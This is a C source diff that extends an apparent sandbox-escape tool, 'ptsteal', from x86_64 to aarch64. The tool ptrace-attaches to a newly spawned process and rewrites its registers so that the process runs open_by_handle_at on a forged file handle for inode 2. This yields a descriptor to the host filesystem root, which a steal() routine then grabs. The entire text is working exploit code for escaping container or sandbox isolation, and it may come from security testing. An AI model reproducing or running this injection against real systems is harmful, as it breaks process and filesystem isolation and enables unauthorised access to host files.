@@ -23,6 +23,7 @@
  * /proc/PID/status (COMM "nook": caught before its execve). Stops when
  * STOPFILE exists (or after 600 s). */
 #include <dirent.h>
+#include <elf.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
@@ -33,6 +34,7 @@
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
+#include <sys/uio.h>
 #include <sys/user.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -75,6 +77,53 @@ static void steal(int pid, long fdnum)
         close(fd);
 }
 
+/* The tracee's registers, and at a syscall entry stop, a different call
+ * in its place: x86_64 has one register set (orig_rax is the number);
+ * aarch64 reads and writes x0..x30/sp through NT_PRSTATUS and the number
+ * through its own regset. */
+#if defined(__x86_64__)
+#define REG_SP(r)  ((r).rsp)
+#define REG_RET(r) ((r).rax)
+static int get_regs(int pid, struct user_regs_struct *r)
+{
+        return (int)ptrace(PTRACE_GETREGS, pid, 0, r);
+}
+
+static int set_call(int pid, struct user_regs_struct *r, long nr, unsigned long a, unsigned long b,
+                    unsigned long c)
+{
+        r->orig_rax = (unsigned long)nr;
+        r->rdi = a;
+        r->rsi = b;
+        r->rdx = c;
+        return (int)ptrace(PTRACE_SETREGS, pid, 0, r);
+}
+#elif defined(__aarch64__)
+#define REG_SP(r)  ((r).sp)
+#define REG_RET(r) ((r).regs[0])
+static int get_regs(int pid, struct user_regs_struct *r)
+{
+        struct iovec io = {r, sizeof *r};
+        return (int)ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &io);
+}
+
+static int set_call(int pid, struct user_regs_struct *r, long nr, unsigned long a, unsigned long b,
+                    unsigned long c)
+{
+        r->regs[0] = a;
+        r->regs[1] = b;
+        r->regs[2] = c;
+        struct iovec io = {r, sizeof *r};
+        int n = (int)nr;
+        struct iovec no = {&n, sizeof n};
+        if (ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &io) < 0)
+                return -1;
+        return (int)ptrace(PTRACE_SETREGSET, pid, NT_ARM_SYSTEM_CALL, &no);
+}
+#else
+#error "ptsteal: no register access for this architecture"
+#endif
+
 /* Attached and stopped: run to a syscall entry and replace the call. */
 static void inject(int pid)
 {
@@ -90,28 +139,25 @@ static void inject(int pid)
                     info.op != PTRACE_SYSCALL_INFO_ENTRY)
                         continue;
                 struct user_regs_struct r;
-                if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
+                if (get_regs(pid, &r) < 0)
                         return;
                 /* struct file_handle {u32 bytes = 8; int type = 1
                  * (FILEID_INO32_GEN); u32 ino = 2; u32 gen = 0}, below the
                  * red zone of the tracee's stack. */
-                unsigned long at = (r.rsp - 4096) & ~15UL;
+                unsigned long at = (REG_SP(r) - 4096) & ~15UL;
                 if (ptrace(PTRACE_POKEDATA, pid, at, (void *)((1UL << 32) | 8)) < 0 ||
                     ptrace(PTRACE_POKEDATA, pid, at + 8, (void *)2UL) < 0)
                         return;
-                r.orig_rax = SYS_open_by_handle_at;
-                r.rdi = (unsigned long)AT_FDCWD;
-                r.rsi = at;
-                r.rdx = O_RDONLY | O_DIRECTORY;
-                if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 ||
+                if (set_call(pid, &r, SYS_open_by_handle_at, (unsigned long)AT_FDCWD, at,
+                             O_RDONLY | O_DIRECTORY) < 0 ||
                     ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 ||
-                    !WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
+                    !WIFSTOPPED(st) || get_regs(pid, &r) < 0)
                         return;
                 injected++;
-                if ((long)r.rax >= 0)
-                        steal(pid, (long)r.rax);
+                if ((long)REG_RET(r) >= 0)
+                        steal(pid, (long)REG_RET(r));
                 else
-                        printf("ERRNO %d: %ld\n", pid, -(long)r.rax);
+                        printf("ERRNO %d: %ld\n", pid, -(long)REG_RET(r));
                 return;
         }
 }
